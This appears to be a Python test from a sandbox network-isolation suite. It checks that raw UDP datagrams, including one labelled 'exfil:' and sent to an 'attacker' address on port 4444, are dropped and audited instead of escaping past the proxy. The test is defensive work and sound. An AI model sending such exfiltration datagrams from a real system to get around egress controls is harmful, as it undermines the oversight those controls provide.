# what: raw UDP past the proxy: to an allowed server's address, to the attacker, to the lab host, on odd ports (QUIC 443, NTP, a high port)
# backends: all
# expect-denied: 198.18.1.10 443 udp protocol_not_allowed
# expect-denied: 198.18.1.66 4444 udp protocol_not_allowed
# expect-denied: 198.18.1.66 123 udp protocol_not_allowed
# expect-denied: 198.18.0.1 9464 udp protocol_not_allowed
# expect-stdout: DONE 4 sent 0 answered
# Only TCP and DNS leave a session, both through proxyd; every other UDP
# datagram is dropped by the session's table and audited from NFLOG with
# its destination. Even allowed.test's own address gets no UDP (QUIC).
# One datagram per destination: nothing here waits on a dedupe window.
import socket

sent = answered = 0
for dst in [("198.18.1.10", 443), ("198.18.1.66", 4444), ("198.18.1.66", 123),
            ("198.18.0.1", 9464)]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.5)
    try:
        s.sendto(b"exfil:" + b"A" * 64, dst)
        sent += 1
        s.recvfrom(2048)
        answered += 1
        print("LEAK an answer from %s:%d" % dst)
    except OSError as e:
        print("BLOCKED %s:%d" % dst, type(e).__name__)
    finally:
        s.close()
print("DONE", sent, "sent", answered, "answered")
